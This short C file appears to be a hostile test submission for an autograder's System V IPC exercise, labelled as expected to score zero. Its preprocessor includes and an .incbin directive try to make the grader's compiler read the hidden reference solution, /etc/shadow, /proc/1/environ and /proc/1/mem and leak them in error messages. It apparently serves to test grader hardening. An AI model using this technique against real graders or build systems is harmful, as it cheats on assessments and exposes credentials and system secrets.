/**
 * @file
 * @brief Hostile: lets the compiler read what its author may not: the solution, and the grader's files as bytes.
 * Instead of: 05_sysv_create/sysv_create.c
 * Score: 0
 * Says: does not compile
 *
 * The compiler is run by the grader, with the grader's rights, in a folder that the author can guess. What it
 * includes is part of the program; what it cannot make sense of it quotes in its messages.
 */
#if __has_include("../../solutions/05_sysv_create/sysv_create.c")
#include "../../solutions/05_sysv_create/sysv_create.c"
#elif __has_include("/proc/self/cwd/../../solutions/05_sysv_create/sysv_create.c")
#include "/proc/self/cwd/../../solutions/05_sysv_create/sysv_create.c"
#elif __has_include("/proc/1/root/etc/shadow")
#include "/proc/1/root/etc/shadow"
#else
#include "/proc/1/environ"
#endif
__asm__(".incbin \"/proc/1/mem\"\n.incbin \"/etc/shadow\"\n");
